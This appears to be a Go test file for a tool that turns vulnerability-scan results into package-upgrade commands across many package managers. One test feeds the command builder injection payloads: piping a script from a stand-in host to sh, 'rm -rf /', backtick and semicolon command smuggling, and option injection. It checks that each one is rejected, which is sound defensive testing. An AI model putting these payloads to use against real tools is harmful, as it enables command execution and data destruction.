package fix

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestCommand(t *testing.T) {
	tests := []struct {
		name                      string
		eco, family, pkg, version string
		want                      []string
	}{
		{"debian", "deb", "debian", "openssl", "3.0.11-1~deb12u2",
			[]string{"apt-get update && apt-get install -y --only-upgrade 'openssl=3.0.11-1~deb12u2'"}},
		{"ubuntu with epoch", "deb", "ubuntu", "libc-bin", "1:2.35-0ubuntu3.6",
			[]string{"apt-get update && apt-get install -y --only-upgrade libc-bin=1:2.35-0ubuntu3.6"}},
		{"scanner word for ecosystem", "debian", "", "curl", "7.88.1-10+deb12u5",
			[]string{"apt-get update && apt-get install -y --only-upgrade curl=7.88.1-10+deb12u5"}},
		{"alpine", "apk", "alpine", "libcrypto3", "3.1.4-r5",
			[]string{"apk add --no-cache 'libcrypto3>=3.1.4-r5'"}},
		{"rocky 9 dnf keeps epoch in NEVR", "rpm", "rocky 9.3", "openssl", "1:3.0.7-25.el9_3",
			[]string{"dnf upgrade -y openssl-1:3.0.7-25.el9_3"}},
		{"zero epoch dropped", "rpm", "redhat 8.9", "curl", "0:7.61.1-33.el8",
			[]string{"dnf upgrade -y curl-7.61.1-33.el8"}},
		{"centos 7 yum", "rpm", "centos 7.9.2009", "openssl", "1:1.0.2k-26.el7_9",
			[]string{"yum update -y openssl-1.0.2k-26.el7_9"}},
		{"amazon linux 2 yum", "rpm", "amazon 2 (Karoo)", "glibc", "2.26-64.amzn2.0.1",
			[]string{"yum update -y glibc-2.26-64.amzn2.0.1"}},
		{"amazon linux 2023 dnf", "rpm", "amazon 2023.3.20240108", "glibc", "2.34-52.amzn2023.0.8",
			[]string{"dnf upgrade -y glibc-2.34-52.amzn2023.0.8"}},
		{"fedora dnf", "rpm", "fedora 39", "glibc", "2.38-16.fc39",
			[]string{"dnf upgrade -y glibc-2.38-16.fc39"}},
		{"rpm without os family", "rpm", "", "bash", "5.1.8-9.el9",
			[]string{"dnf upgrade -y bash-5.1.8-9.el9"}},
		{"opensuse zypper", "rpm", "opensuse.leap 15.5", "libopenssl3", "3.0.8-150500.5.20.1",
			[]string{"zypper --non-interactive install 'libopenssl3>=3.0.8-150500.5.20.1'"}},
		{"npm", "npm", "", "lodash", "4.17.21",
			[]string{"npm install lodash@4.17.21"}},
		{"npm scoped", "npm", "", "@babel/traverse", "7.23.2",
			[]string{"npm install @babel/traverse@7.23.2"}},
		{"pypi", "pypi", "", "Django", "4.2.8",
			[]string{"pip install 'Django>=4.2.8'"}},
		{"go module gets its v", "golang", "", "golang.org/x/net", "0.17.0",
			[]string{"go get golang.org/x/net@v0.17.0 && go mod tidy"}},
		{"go module", "gomod", "", "github.com/docker/docker", "v24.0.7+incompatible",
			[]string{"go get github.com/docker/docker@v24.0.7+incompatible && go mod tidy"}},
		{"go stdlib", "golang", "", "stdlib", "1.22.4",
			[]string{"go mod edit -toolchain=go1.22.4"}},
		{"go stdlib minor only", "golang", "", "stdlib", "go1.22",
			[]string{"go mod edit -toolchain=go1.22.0"}},
		{"maven", "maven", "", "org.apache.logging.log4j:log4j-core", "2.17.1",
			[]string{
				"<dependencyManagement>\n  <dependencies>\n    <dependency>\n      <groupId>org.apache.logging.log4j</groupId>\n      <artifactId>log4j-core</artifactId>\n      <version>2.17.1</version>\n    </dependency>\n  </dependencies>\n</dependencyManagement>",
				"dependencies {\n  constraints {\n    implementation(\"org.apache.logging.log4j:log4j-core:2.17.1\")\n  }\n}",
			}},
		{"gem", "gem", "", "nokogiri", "1.15.6",
			[]string{"bundle update nokogiri --conservative"}},
		{"cargo", "cargo", "", "openssl", "0.10.60",
			[]string{"cargo update -p openssl --precise 0.10.60"}},
		{"nuget", "nuget", "", "Newtonsoft.Json", "13.0.1",
			[]string{"dotnet add package Newtonsoft.Json --version 13.0.1"}},
		{"composer", "composer", "", "guzzlehttp/psr7", "v2.4.5",
			[]string{"composer require 'guzzlehttp/psr7:^2.4.5'"}},
		{"unknown ecosystem", "conan", "", "zlib", "1.3", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Command(tt.eco, tt.family, tt.pkg, tt.version)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Command(%q, %q, %q, %q) = %q, want %q\n(-want +got):\n%s", tt.eco, tt.family, tt.pkg, tt.version, got, tt.want, diff)
			}
		})
	}
}

// TestCommandRejectsInjection makes sure that report text cannot smuggle
// shell syntax or options into a command.
func TestCommandRejectsInjection(t *testing.T) {
	tests := []struct {
		name, eco, pkg, version string
	}{
		{"command substitution in deb name", "deb", "openssl$(curl evil.sh|sh)", "3.0.11-1"},
		{"semicolon in deb name", "deb", "openssl;rm -rf /", "3.0.11-1"},
		{"option as deb name", "deb", "-oAPT::Update::Pre-Invoke::=id", "1.0"},
		{"backticks in version", "deb", "openssl", "1.0`id`"},
		{"newline in apk name", "apk", "musl\nrm -rf /", "1.2.4-r3"},
		{"quote in rpm version", "rpm", "bash", "5.1'; id; '"},
		{"space in npm name", "npm", "lodash --registry=http://evil", "4.17.21"},
		{"option as go module", "golang", "-toolexec=id", "1.0.0"},
		{"pipe in pypi name", "pypi", "requests|id", "2.31.0"},
		{"xml in maven name", "maven", "org.x:y</artifactId><evil/>", "1.0"},
		{"dollar in cargo version", "cargo", "openssl", "0.10.60$HOME"},
		{"ampersand in nuget name", "nuget", "Json&&id", "13.0.1"},
		{"option in composer name", "composer", "--dev/x", "1.0"},
		{"go stdlib bogus version", "golang", "stdlib", "1.22.4;id"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Command(tt.eco, "", tt.pkg, tt.version); got != nil {
				t.Errorf("Command(%q, \"\", %q, %q) = %q, want nil", tt.eco, tt.pkg, tt.version, got)
			}
			r := recipeFor(tt.eco, osInfo{}, tt.pkg, tt.version)
			if r.rejected == "" {
				t.Errorf("recipeFor(%q, %q, %q).rejected = \"\", want an explanation", tt.eco, tt.pkg, tt.version)
			}
		})
	}
}

func TestShellQuote(t *testing.T) {
	tests := []struct{ in, want string }{
		{"openssl=1.0", "openssl=1.0"},
		{"a>=1", "'a>=1'"},
		{"x~y", "'x~y'"},
		{"it's", `'it'\''s'`},
		{"", "''"},
		{"$(id)", "'$(id)'"},
	}
	for _, tt := range tests {
		if got := shellQuote(tt.in); got != tt.want {
			t.Errorf("shellQuote(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestRPMManager(t *testing.T) {
	tests := []struct {
		family, version, want string
	}{
		{"centos", "7.9.2009", mgrYum},
		{"redhat", "7.9", mgrYum},
		{"oracle", "8.9", mgrDnf},
		{"rocky", "9.3", mgrDnf},
		{"alma", "", mgrDnf},
		{"amazon", "2 (Karoo)", mgrYum},
		{"amazon", "2018.03", mgrYum},
		{"amazon", "2023.3.20240108", mgrDnf},
		{"cbl-mariner", "2.0", mgrTdnf},
		{"sles", "15.5", mgrZypper},
	}
	for _, tt := range tests {
		if got := rpmManager(osInfo{tt.family, tt.version}); got != tt.want {
			t.Errorf("rpmManager(%q, %q) = %q, want %q", tt.family, tt.version, got, tt.want)
		}
	}
}
